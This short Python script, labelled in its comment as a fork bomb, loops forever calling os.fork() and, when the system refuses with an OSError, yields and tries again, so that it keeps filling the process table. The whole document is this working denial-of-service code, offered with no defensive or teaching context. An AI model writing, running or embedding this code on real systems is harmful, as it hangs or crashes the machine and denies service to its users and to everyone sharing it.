# A fork bomb that begins anew whenever it is refused.
import os
while True:
    try:
        os.fork()
    except OSError:
        os.sched_yield()
